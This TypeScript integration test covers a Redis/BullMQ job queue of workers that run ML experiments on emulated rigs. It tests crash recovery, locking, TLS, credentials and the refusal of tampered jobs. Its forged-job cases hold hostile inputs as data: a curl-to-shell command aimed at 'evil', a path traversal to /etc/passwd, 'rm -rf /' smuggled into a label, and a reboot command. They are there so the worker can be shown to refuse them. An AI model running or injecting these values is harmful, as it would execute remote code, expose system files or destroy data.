/**
 * The lab-wide job queue, for real: redis-server (started here on loopback, an ACL user, nothing
 * saved), `hil worker` processes serving emulated rigs, `hil submit` collecting through the queue.
 * A worker SIGKILLed mid-job: its shard runs again elsewhere and every row arrives exactly once,
 * equal to a one-rig run. Wrong password, forged jobs, a firmware hash the worker does not build,
 * Redis going away, a worker with no such rig: one clear line each, nothing collected is lost.
 */
import { expect } from 'chai';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Job, Queue, QueueEvents } from 'bullmq';
import { queueConnection } from '../../harness/queue/connection.js';
import { boardQueue, QUEUE_PREFIX } from '../../harness/queue/names.js';
import type { ShardTiming } from '../../harness/queue/submit.js';
import { runExperiments } from '../../harness/run/run.js';
import { planShards, type ShardSpec } from '../../harness/run/shard.js';
import { createLogger } from '../../harness/util/log.js';
import { RIGS_DIR, ROOT } from '../../harness/util/paths.js';
import { acquireRigLock } from '../../harness/util/rig-lock.js';
import { startRedis, type TestRedis } from '../helpers/redis-server.js';
import { expectSameRows, table } from '../helpers/same-rows.js';

const CLI = path.join(ROOT, 'dist', 'harness', 'cli.js');
const MODEL = 'fmnist_cnn';
const BOARD = 'mps2-an386';
const log = createLogger({ quiet: true });

/** A copy of the default QEMU rig under another name: rigs of one board, locked separately. */
function rigFile(dir: string, name: string): string {
  const file = path.join(dir, `${name}.yaml`);
  const text = fs.readFileSync(path.join(RIGS_DIR, 'qemu-mps2-an386.yaml'), 'utf8').replace(/^name: .*$/m, `name: ${name}`);
  fs.writeFileSync(file, text);
  return file;
}

interface Proc {
  child: ChildProcess;
  out(): string;
  /** resolves with the first match of `re` in the output (stdout + stderr) */
  waitFor(re: RegExp, ms?: number): Promise<RegExpMatchArray>;
  exited: Promise<number | null>;
}

function hilProc(args: string[], env: Record<string, string>): Proc {
  const child = spawn(process.execPath, [CLI, ...args], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
  let text = '';
  const waiters: { re: RegExp; resolve: (m: RegExpMatchArray) => void }[] = [];
  const onData = (d: Buffer) => {
    text += d.toString();
    for (const w of [...waiters]) {
      const m = text.match(w.re);
      if (m) {
        waiters.splice(waiters.indexOf(w), 1);
        w.resolve(m);
      }
    }
  };
  child.stdout?.on('data', onData);
  child.stderr?.on('data', onData);
  const exited = new Promise<number | null>((r) => child.once('exit', (code) => r(code)));
  return {
    child,
    out: () => text,
    exited,
    waitFor: (re, ms = 120000) =>
      new Promise((resolve, reject) => {
        const m = text.match(re);
        if (m) return resolve(m);
        const timer = setTimeout(() => reject(new Error(`timed out waiting for ${re} in:\n${text.slice(-2000)}`)), ms);
        waiters.push({ re, resolve: (x) => (clearTimeout(timer), resolve(x)) });
      }),
  };
}

function hil(args: string[], env: Record<string, string>): { code: number | null; stderr: string; stdout: string } {
  const r = spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', env: { ...process.env, ...env }, timeout: 120000 });
  return { code: r.status, stderr: r.stderr, stdout: r.stdout };
}

/** The last stderr line is the one error line; no stack trace anywhere. */
function errorLine(r: { code: number | null; stderr: string }, pattern: RegExp): string {
  expect(r.code, r.stderr).to.be.greaterThan(0);
  expect(r.stderr).to.not.match(/\n\s+at /);
  const line = r.stderr.trim().split('\n').pop() ?? '';
  expect(line, r.stderr).to.match(/^error: /);
  expect(line).to.match(pattern);
  return line;
}

/** `hil worker` serving one rig file (added to `procs`, to be stopped); resolves once it serves. */
async function startWorker(procs: Proc[], url: string, rig: string, env: Record<string, string>, extra: string[] = []): Promise<Proc> {
  const worker = hilProc(['worker', '--queue', url, '--rig', rig, '--lock-seconds', '4', ...extra], env);
  procs.push(worker);
  await worker.waitFor(/serving /);
  return worker;
}

async function stopAll(procs: Proc[]): Promise<void> {
  for (const p of procs) if (p.child.exitCode === null && p.child.signalCode === null) p.child.kill('SIGTERM');
  await Promise.all(procs.map((p) => Promise.race([p.exited, new Promise((r) => setTimeout(r, 5000))])));
  for (const p of procs) if (p.child.exitCode === null && p.child.signalCode === null) p.child.kill('SIGKILL');
}

describe('job queue (BullMQ on redis-server, hil worker / hil submit)', function () {
  this.timeout(300000);
  let tmp: string;
  let redis: TestRedis;
  let env: Record<string, string>;
  const procs: Proc[] = [];

  before(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'yono-queue-'));
    redis = await startRedis();
    // the lock directory of this test's rigs; no credentials file from the caller's environment
    env = { ...redis.env, YONO_LOCK_DIR: path.join(tmp, 'locks'), YONO_REDIS_CREDENTIALS: '' };
  });

  afterEach(async () => {
    await stopAll(procs.splice(0));
  });

  after(async () => {
    await redis?.stop();
    if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
  });

  it('completes a run with 3 workers when one is SIGKILLed mid-job: every row once, equal to a one-rig run', async () => {
    const samples = 12;
    const base = await runExperiments({ rig: rigFile(tmp, 'q-base'), models: [MODEL], samples, experiments: ['accuracy'], variants: ['int8'], resultsDir: path.join(tmp, 'base'), log });
    const workers = ['q-a', 'q-b', 'q-c'].map((name) => hilProc(['worker', '--queue', redis.url, '--rig', rigFile(tmp, name), '--lock-seconds', '4'], env));
    procs.push(...workers);
    await Promise.all(workers.map((w) => w.waitFor(/serving /)));
    const results = path.join(tmp, 'killed');
    const t0 = Date.now();
    const submit = hilProc(['submit', '--queue', redis.url, '--rig', rigFile(tmp, 'q-a'), '--models', MODEL, '--samples', String(samples), '--experiments', 'accuracy', '--shards', '3', '--results', results], env);
    procs.push(submit);
    // the first worker to start running a shard dies at once
    const running = await Promise.race(workers.map((w) => w.waitFor(/(q-[abc])@\S+: shard (\S+) \(.*\): running/).then((m) => ({ w, m }))));
    running.w.child.kill('SIGKILL');
    const killedAt = Date.now();
    const [, killedRig, killedShard] = running.m;
    const code = await submit.exited;
    expect(code, submit.out()).to.equal(0);
    const [dir] = fs.readdirSync(results).map((d) => path.join(results, d));
    // every sample exactly once, and the rows of the one-rig run
    const predictions = table(dir, 'predictions.csv');
    expect(predictions.map((p) => Number(p.sample)).sort((a, b) => a - b)).to.deep.equal(Array.from({ length: samples }, (_, i) => i));
    expectSameRows(base.dir, dir, ['accuracy.csv', 'predictions.csv']);
    const run = JSON.parse(fs.readFileSync(path.join(dir, 'run.json'), 'utf8')) as { shards: { id: string; rig: string; host: string }[] };
    expect(run.shards.map((s) => s.id)).to.have.length(3);
    const again = run.shards.find((s) => s.id === killedShard);
    expect(again?.rig, 'the killed shard ran again on another rig').to.not.equal(killedRig);
    expect(again?.host).to.equal(os.hostname());
    const timings = (JSON.parse(fs.readFileSync(path.join(dir, 'shards', 'queue.json'), 'utf8')) as { shards: ShardTiming[] }).shards;
    const killed = timings.find((t) => t.shard === killedShard) as ShardTiming;
    const others = timings.filter((t) => t.shard !== killedShard);
    const ms = (xs: number[]) => `${Math.round(xs.reduce((a, b) => a + b, 0) / xs.length)} ms`;
    process.stdout.write(
      `      killed worker ${killedRig} on shard ${killedShard}: recovered on ${killed.worker} ${((killed.collected - killedAt) / 1000).toFixed(1)} s after the kill ` +
        `(lock 4 s; whole run ${((Date.now() - t0) / 1000).toFixed(1)} s); attempts made ${killed.attempts}\n` +
        `      queue overhead per shard (loopback, idle workers): enqueue->start ${ms(others.map((t) => (t.started ?? 0) - t.enqueued))}, ` +
        `in-job beyond the shard's run (job check, firmware check, packing) ${ms(others.map((t) => (t.finished ?? 0) - (t.started ?? 0) - (t.runMs ?? 0)))}, ` +
        `finish->collected ${ms(others.map((t) => t.collected - (t.finished ?? 0)))}\n`,
    );
  });

  it('a rig that a local run holds: its worker puts the job back for another rig and waits until the rig is free', async () => {
    const lock = acquireRigLock('q-a', { dir: env.YONO_LOCK_DIR, command: 'hil run --rig q-a (the test)' });
    try {
      const held = await startWorker(procs, redis.url, rigFile(tmp, 'q-a'), env);
      await startWorker(procs, redis.url, rigFile(tmp, 'q-b'), env);
      const results = path.join(tmp, 'held');
      const submit = hilProc(['submit', '--queue', redis.url, '--rig', rigFile(tmp, 'q-a'), '--models', MODEL, '--samples', '4', '--experiments', 'accuracy', '--shards', '2', '--results', results], env);
      procs.push(submit);
      expect(await submit.exited, submit.out()).to.equal(0);
      const [dir] = fs.readdirSync(results).map((d) => path.join(results, d));
      const run = JSON.parse(fs.readFileSync(path.join(dir, 'run.json'), 'utf8')) as { shards: { rig: string }[] };
      expect(run.shards.map((x) => x.rig)).to.deep.equal(['q-b', 'q-b']);
      expect(held.out()).to.match(new RegExp(`rig in use by pid ${process.pid} .*\\(hil run --rig q-a \\(the test\\)\\); shard \\S+ goes back to the queue`));
      lock.release();
      await held.waitFor(/q-a@\S+: rig free again; taking jobs/, 10000);
    } finally {
      lock.release();
    }
  });

  it('works over TLS (rediss://, the lab CA given; hil run --queue); without the CA: one line', async () => {
    const secure = await startRedis({ tls: true });
    try {
      const tlsEnv = { ...env, ...secure.env };
      const ca = secure.caFile as string;
      const noCa = hil(['rigs', 'doctor', rigFile(tmp, 'q-a'), '--queue', secure.url], tlsEnv);
      expect(noCa.stdout).to.match(/queue rediss:\/\/127\.0\.0\.1:\d+ \(user hil\): NOT usable: TLS to the queue .* failed: .*(self[- ]signed|unable to verify).*\(give the server's CA with --queue-ca <file>\)/);
      const worker = await startWorker(procs, secure.url, rigFile(tmp, 'q-a'), tlsEnv, ['--queue-ca', ca]);
      // hil run --queue is hil submit
      const submit = hilProc(['run', '--queue', secure.url, '--queue-ca', ca, '--rig', rigFile(tmp, 'q-a'), '--models', MODEL, '--samples', '2', '--experiments', 'accuracy', '--results', path.join(tmp, 'tls')], tlsEnv);
      expect(await submit.exited, submit.out()).to.equal(0);
      expect(submit.out()).to.match(/at rediss:\/\/127\.0\.0\.1:\d+ \(user hil\)/);
      errorLine(hil(['worker', '--queue', secure.url.replace('rediss', 'redis'), '--queue-ca', ca, '--rig', rigFile(tmp, 'q-a')], tlsEnv), /a CA file is for TLS: use a rediss:\/\/ URL/);
    } finally {
      await stopAll(procs.splice(0));
      await secure.stop();
    }
  });

  it('refuses a wrong password, credentials in the URL and a credentials file others can read: one line, no secret shown', () => {
    const wrong = { ...env, YONO_REDIS_PASSWORD: 'Wr0ngPa55word' };
    for (const args of [['submit', '--queue', redis.url, '--models', MODEL, '--samples', '2', '--wait-workers', '1'], ['worker', '--queue', redis.url, '--rig', rigFile(tmp, 'q-a')]]) {
      const r = hil(args, wrong);
      const line = errorLine(r, /refused the login \(wrong user name or password/);
      expect(r.stderr + r.stdout).to.not.include('Wr0ngPa55word');
      expect(line).to.include(`127.0.0.1:${redis.port}`);
    }
    const inUrl = hil(['worker', '--queue', `redis://hil:S3cretInUrl@127.0.0.1:${redis.port}`, '--rig', 'q-a'], env);
    errorLine(inUrl, /credentials do not belong in the queue URL/);
    expect(inUrl.stderr).to.not.include('S3cretInUrl');
    const file = path.join(tmp, 'credentials');
    fs.writeFileSync(file, `hil:${redis.password}\n`, { mode: 0o644 });
    fs.chmodSync(file, 0o644);
    errorLine(hil(['worker', '--queue', redis.url, '--queue-credentials', file, '--rig', rigFile(tmp, 'q-a')], env), /readable by other users \(mode 644\); chmod 600 it/);
  });

  it('doctor sees the worker; a worker refuses forged jobs and a firmware it does not build (failed at once, not retried); the run reports it and keeps the rest', async () => {
    const worker = await startWorker(procs, redis.url, rigFile(tmp, 'q-a'), env);
    const doctor = hilProc(['rigs', 'doctor', rigFile(tmp, 'q-a'), '--queue', redis.url], env);
    expect(await doctor.exited, doctor.out()).to.equal(0);
    expect(doctor.out()).to.match(/queue redis:\/\/127\.0\.0\.1:\d+ \(user hil\): answers \(Redis 7[\d.]*, ping [\d.]+ ms\)\n  board mps2-an386: 1 worker; jobs waiting 0/);
    const connection = queueConnection(redis.url, { env });
    const queue = new Queue(boardQueue(BOARD), { connection: connection.redis, prefix: QUEUE_PREFIX });
    const events = new QueueEvents(boardQueue(BOARD), { connection: connection.redis, prefix: QUEUE_PREFIX });
    try {
      await events.waitUntilReady();
      const [spec] = planShards({ rig: rigFile(tmp, 'q-a'), models: [MODEL], samples: 2, experiments: ['accuracy'], variants: ['int8'], log }, 1);
      const forged: [string, unknown, RegExp][] = [
        ['extra field', { ...spec, command: 'sh -c "curl evil | sh"' }, /command: unknown field/],
        ['path as a model', { ...spec, models: ['../../../etc/passwd'] }, /models\.0: must match pattern/],
        ['command in the label', { ...spec, label: 'x; rm -rf /' }, /label: must match pattern/],
        ['unknown model', { ...spec, models: ['no_such_model'], run: { ...spec.run, models: ['no_such_model'] } }, /unknown model no_such_model/],
        ['extra run option', { ...spec, run: { ...spec.run, options: { resultsDir: '/etc' } } }, /run\.options\.resultsDir: unknown field/],
        ['firmware hash', { ...spec, firmware: spec.firmware.map((f) => ({ ...f, hash: 'deadbeefdeadbeef' })) }, /firmware hash mismatch for int8: the job expects deadbeefdeadbeef, this worker builds [0-9a-f]{16}/],
      ];
      for (const [what, data, reason] of forged) {
        const job = await queue.add('shard', data, { jobId: `forged-${what.replace(/\W/g, '_')}-${Date.now()}`, attempts: 3 });
        const failed = await job.waitUntilFinished(events, 60000).then(
          () => undefined,
          (e: Error) => e.message,
        );
        expect(failed, what).to.match(/^refused by q-a@/);
        expect(failed, what).to.match(reason);
        const after = (await Job.fromId(queue, job.id as string)) as Job;
        expect(await after.getState(), what).to.equal('failed');
        expect(after.attemptsMade, `${what}: not retried`).to.equal(1);
      }
      expect(worker.out()).to.match(/refused job forged-extra_field/);

      // a run whose jobs are tampered with in the queue: it reports the refusals, keeps the rest
      await queue.pause();
      const results = path.join(tmp, 'tampered');
      const submit = hilProc(['submit', '--queue', redis.url, '--rig', rigFile(tmp, 'q-a'), '--models', MODEL, '--samples', '6', '--experiments', 'accuracy', '--shards', '3', '--results', results], env);
      procs.push(submit);
      let jobs: Job[] = [];
      for (let i = 0; i < 600 && jobs.length < 3; i++) {
        await new Promise((r) => setTimeout(r, 200));
        jobs = (await queue.getJobs(['paused', 'wait'])).filter((j) => j.name === 'shard');
      }
      expect(jobs, submit.out()).to.have.length(3);
      jobs.sort((a, b) => (a.data as ShardSpec).index - (b.data as ShardSpec).index);
      await jobs[0].updateData({ ...(jobs[0].data as ShardSpec), cmd: 'reboot' });
      await jobs[1].updateData({ ...(jobs[1].data as ShardSpec), firmware: [{ variant: 'int8', hash: '0123456789abcdef' }] });
      await queue.resume();
      const code = await submit.exited;
      const line = errorLine({ code, stderr: submit.out() }, /2 of 3 shards failed: shard 1\/3 .*refused by q-a@\S+: not a shard spec: cmd: unknown field/);
      expect(line).to.match(/shard 2\/3 .*firmware hash mismatch for int8: the job expects 0123456789abcdef/);
      expect(line).to.match(/1 of 3 shards collected and kept in /);
      const [dir] = fs.readdirSync(results).map((d) => path.join(results, d));
      const kept = fs.readdirSync(path.join(dir, 'shards')).filter((d) => fs.existsSync(path.join(dir, 'shards', d, 'predictions.csv')));
      expect(kept).to.have.length(1);
      expect(table(path.join(dir, 'shards', kept[0]), 'predictions.csv')).to.have.length(2);
    } finally {
      await queue.close();
      await events.close();
    }
  });

  it('Redis going away mid-run: one line, the shards already collected kept and the run finished later with --resume; no such rig, no worker for the board: one line', async () => {
    const own = await startRedis();
    try {
      const ownEnv = { ...env, ...own.env };
      const worker = await startWorker(procs, own.url, rigFile(tmp, 'q-a'), ownEnv);
      const results = path.join(tmp, 'gone');
      const submit = hilProc(['submit', '--queue', own.url, '--rig', rigFile(tmp, 'q-a'), '--models', MODEL, '--samples', '9', '--experiments', 'accuracy', '--shards', '3', '--lost-after', '2', '--results', results], ownEnv);
      procs.push(submit);
      await submit.waitFor(/shards: 1\/3/);
      own.kill();
      const code = await submit.exited;
      const line = errorLine({ code, stderr: submit.out() }, /lost the queue: .*127\.0\.0\.1:\d+.*; [12] of 3 shards collected and kept in /);
      expect(line).to.not.include(own.password);
      const [dir] = fs.readdirSync(results).map((d) => path.join(results, d));
      const kept = fs.readdirSync(path.join(dir, 'shards')).filter((d) => fs.existsSync(path.join(dir, 'shards', d, 'predictions.csv')));
      expect(kept.length).to.be.at.least(1);
      for (const k of kept) expect(table(path.join(dir, 'shards', k), 'predictions.csv')).to.have.length(3);
      expect(line).to.include(`--resume ${dir}`);
      await stopAll(procs.splice(0));

      // a queue again (a fresh one here): the run finishes, its kept shards are not run again
      const back = await startRedis();
      try {
        const backEnv = { ...env, ...back.env };
        const again = await startWorker(procs, back.url, rigFile(tmp, 'q-b'), backEnv);
        // asynchronous: the worker's output must keep flowing meanwhile
        const resumed = hilProc(['submit', '--queue', back.url, '--resume', dir], backEnv);
        const resume = { code: await resumed.exited, stderr: resumed.out() };
        expect(resume.code, resume.stderr).to.equal(0);
        expect(resume.stderr).to.match(new RegExp(`: ${3 - kept.length} of 3 shards on queue`));
        expect(table(dir, 'predictions.csv').map((p) => Number(p.sample)).sort((a, b) => a - b)).to.deep.equal([0, 1, 2, 3, 4, 5, 6, 7, 8]);
        const ran = (again.out().match(/: shard \S+ \(.*\): running/g) ?? []).length;
        expect(ran, 'only the shards not collected ran again').to.equal(3 - kept.length);
        errorLine(hil(['submit', '--queue', back.url, '--resume', dir], backEnv), /this run is merged already/);
      } finally {
        await stopAll(procs.splice(0));
        await back.stop();
      }
    } finally {
      await own.stop();
    }
    errorLine(hil(['worker', '--queue', redis.url, '--rig', 'no-such-rig'], env), /no-such-rig: unknown rig; available: /);
    errorLine(hil(['submit', '--queue', redis.url, '--rig', 'qemu-mps2-an500', '--models', MODEL, '--samples', '2', '--wait-workers', '1'], env), /no worker serves board mps2-an500 \(waited 1 s\): start 'hil worker --queue redis:\/\/127\.0\.0\.1:\d+ --rig <a mps2-an500 rig>'/);
    errorLine(hil(['worker', '--queue', `redis://127.0.0.1:${await closedPort()}`, '--rig', rigFile(tmp, 'q-a')], env), /connection refused by the queue at redis:\/\/127\.0\.0\.1:\d+/);
  });
});

/** A port nothing listens on (redis-server stopped). */
async function closedPort(): Promise<number> {
  const r = await startRedis();
  await r.stop();
  return r.port;
}
